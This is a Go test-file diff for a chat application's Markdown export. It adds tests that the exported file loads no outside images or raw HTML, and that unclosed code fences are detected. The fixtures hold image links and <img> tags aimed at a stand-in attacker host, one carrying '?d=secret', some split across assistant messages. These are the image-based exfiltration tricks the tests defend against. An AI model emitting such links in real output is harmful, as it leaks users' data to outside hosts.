@@ -2,10 +2,15 @@ package export
 
 import (
 	"errors"
+	"time"
+
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/azchat/azchat/chat"
+	"github.com/azchat/azchat/chat/markdown"
 )
 
 func TestWriteFileIsPrivateAndAtomic(t *testing.T) {
@@ -128,5 +133,61 @@ func TestImportRefusesAChatOfMoreTextThanItsLimit(t *testing.T) {
 	b.WriteString("]")
 	if _, err := Parse([]byte(b.String())); err == nil || !strings.Contains(err.Error(), "by message 9") {
 		t.Fatalf("%d MB of text: %v", b.Len()>>20, err)
+	}
+}
+
+// TestMarkdownExportIsInertAsAWhole: a viewer reads the export whole, so
+// pieces harmless alone must stay harmless together: an image reference
+// in one answer defined in the next, a code block an answer leaves open
+// (cut at the token limit) closed by the next, and a system message or
+// example indented into code or fenced. The rendered file has no image
+// but azchat's own, and no raw HTML.
+func TestMarkdownExportIsInertAsAWhole(t *testing.T) {
+	conv := attachmentFixture(t)
+	conv.System = "    ![sys](https://evil.example.invalid/s.png)\n~~~\n![fence](https://evil.example.invalid/f.png)\n~~~"
+	conv.Examples = []chat.Example{{User: "~~~\n<img src=\"https://evil.example.invalid/e.gif\">\n~~~", Assistant: "![ex][r]"}}
+	at := func(role chat.Role, text string) *chat.Message {
+		return &chat.Message{Role: role, Content: text, Status: chat.Complete, Time: time.Unix(1_700_000_000, 0)}
+	}
+	conv.Messages = append(conv.Messages,
+		at(chat.Assistant, "see ![x][r]"),
+		at(chat.User, "and?"),
+		at(chat.Assistant, "[r]: https://evil.example.invalid/p.png?d=secret"),
+		at(chat.Assistant, "cut short:\n```go\nfunc main() {"),
+		at(chat.Assistant, "```\n![y](https://evil.example.invalid/y.png) <img src=\"https://evil.example.invalid/z.gif\">"),
+	)
+	dir := t.TempDir()
+	main, _, err := RenderFiles(conv, Markdown, filepath.Join(dir, "chat.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, img := range markdown.Images(string(main)) {
+		if strings.Contains(img.Dest, "evil") || !strings.HasPrefix(img.Dest, "chat_files/") {
+			t.Errorf("the export loads %q", img.Dest)
+		}
+	}
+	if n := len(markdown.Images(string(main))); n == 0 {
+		t.Error("azchat's own images are gone")
+	}
+	if markdown.QuoteHTML(string(main)) != string(main) {
+		t.Errorf("the export holds raw HTML:\n%s", main)
+	}
+}
+
+// TestOpenFence: the fence an answer cut short inside code leaves open.
+func TestOpenFence(t *testing.T) {
+	for s, want := range map[string]string{
+		"```go\nfunc main() {":               "```",
+		"```go\nx\n```":                      "",
+		"~~~~\n```\nstill code":              "~~~~",
+		"````\n```\n":                        "````",
+		"text ``` not a fence":               "",
+		"   ```\ncode":                       "```",
+		"    ```\nindented: code, not fence": "",
+		"```a`b\nnot a fence":                "",
+	} {
+		if got := openFence(s); got != want {
+			t.Errorf("openFence(%q) = %q, want %q", s, got, want)
+		}
 	}
 }
